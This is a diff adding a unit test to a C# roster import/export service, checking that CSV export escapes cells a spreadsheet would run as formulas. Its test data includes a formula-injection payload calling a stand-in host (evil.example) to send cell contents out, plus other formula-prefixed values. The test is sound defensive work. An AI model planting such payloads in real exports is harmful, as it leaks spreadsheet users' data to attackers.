@@ -235,6 +235,36 @@ public sealed class RosterImportTests(ITestOutputHelper output) : IAsyncLifetime
     }
 
     [Fact]
+    public async Task ExportToCsv_NeutralisesCellsASpreadsheetWouldRun_AndImportsBackUnchanged()
+    {
+        var dangerous = new[]
+        {
+            Samples.Officer("=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", "Awa", policeId: "-42"),
+            Samples.Officer("+221 77 000 00 00", "@Moussa", policeId: "=1+1"),
+            Samples.Officer("-Ndiaye", "'=already quoted", policeId: "@SUM(A1:A9)"),
+            Samples.Officer("'Abdoulaye", "''", policeId: "SN-PLAIN"),
+        };
+        dangerous[0].Rank = "-";
+        dangerous[1].Rank = "@inspector";
+        foreach (var officer in dangerous)
+            await _senegal.CreateOfficerAsync(new CreateOfficerRequest { Parent = "memberStates/SN", Officer = officer });
+        var before = await RosterAsync(_senegal);
+
+        var exported = await ExportAsync(_senegal, RosterFileFormat.Csv);
+
+        var cells = exported.ReplaceLineEndings("\n").Split('\n', StringSplitOptions.RemoveEmptyEntries).Skip(1)
+            .SelectMany(CsvCells).ToList();
+        Assert.DoesNotContain(cells, cell => cell.Length > 0 && cell[0] is '=' or '+' or '-' or '@' or '\t' or '\r');
+        Assert.Contains("'-42", cells);
+        Assert.Contains("''=already quoted", cells);
+        Assert.Contains("'Abdoulaye", cells);
+        var back = await ImportAsync(_senegal, exported, ImportMode.AllOrNothing);
+        Assert.Empty(back.Errors);
+        Assert.Equal(new ImportSummary { RowsRead = 4, Unchanged = 4, Applied = true }, back.Summary);
+        Assert.Equal(before, await RosterAsync(_senegal));
+    }
+
+    [Fact]
     public async Task SampleRosterOfTheDocs_ImportsWithoutABadRow()
     {
         await CreateCoursesAsync(_service);
@@ -332,6 +362,22 @@ public sealed class RosterImportTests(ITestOutputHelper output) : IAsyncLifetime
         var file = new MemoryStream();
         while (await call.ResponseStream.MoveNext()) call.ResponseStream.Current.Chunk.WriteTo(file);
         return Encoding.UTF8.GetString(file.ToArray());
+    }
+
+    /// <summary>The cells of one CSV line as a spreadsheet reads them: quotes taken off, doubled quotes made single.</summary>
+    private static IEnumerable<string> CsvCells(string line)
+    {
+        var cell = new StringBuilder();
+        var quoted = false;
+        for (var i = 0; i < line.Length; i++)
+        {
+            var c = line[i];
+            if (quoted && c == '"' && i + 1 < line.Length && line[i + 1] == '"') { cell.Append('"'); i++; }
+            else if (c == '"') quoted = !quoted;
+            else if (c == ',' && !quoted) { yield return cell.ToString(); cell.Clear(); }
+            else cell.Append(c);
+        }
+        yield return cell.ToString();
     }
 
     private static async Task<List<Officer>> RosterAsync(RosterService.RosterServiceClient client)
